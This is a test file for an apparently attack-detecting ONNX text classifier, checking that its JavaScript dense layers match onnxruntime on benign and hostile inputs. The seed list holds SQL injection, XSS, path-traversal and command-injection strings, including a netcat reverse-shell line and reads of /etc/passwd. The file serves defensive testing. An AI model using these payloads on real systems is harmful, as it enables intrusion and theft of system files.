import { expect } from 'chai';
import { textModelSuite } from '@session-warden/model-test-suite';
import { createTextClassifier } from '../src/index.js';
import { onnxBackend } from './backend.js';

textModelSuite(onnxBackend);

describe('ONNX text classifier: the shipped dense layers run in JavaScript', () => {
  it('labels and scores as onnxruntime does, on attacks of every class and benign input', async () => {
    const js = await createTextClassifier();
    const runtime = await createTextClassifier({ engine: 'onnxruntime' });
    expect([js.engine, runtime.engine]).to.deep.equal(['js-dense', 'onnxruntime']);
    const seeds = ["admin' OR 1=1--", '1 UNION SELECT password FROM users', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
      '../../etc/passwd', '%2e%2e%2f%2e%2e%2fboot.ini', '; cat /etc/passwd', '| nc -e /bin/sh 10.0.0.1 4444',
      'blue shoes', 'john@example.com', 'Grüße aus München', '42'];
    const inputs = seeds.flatMap((s, i) => [s, `${s} ${i}`, s.toUpperCase()]);
    const [a, b] = [await js.classify(inputs), await runtime.classify(inputs)];
    for (let i = 0; i < inputs.length; i++) {
      expect(a[i]!.label, inputs[i]).to.equal(b[i]!.label);
      for (const [label, score] of Object.entries(b[i]!.scores)) {
        expect(Math.abs(a[i]!.scores[label as keyof typeof a[number]['scores']] - score), `${inputs[i]}: ${label}`).to.be.at.most(1e-6);
      }
    }
    // The inputs reach every label, so the comparison covers each output.
    expect(new Set(b.map((v) => v.label)).size).to.equal(5);
    await runtime.dispose();
  });
});
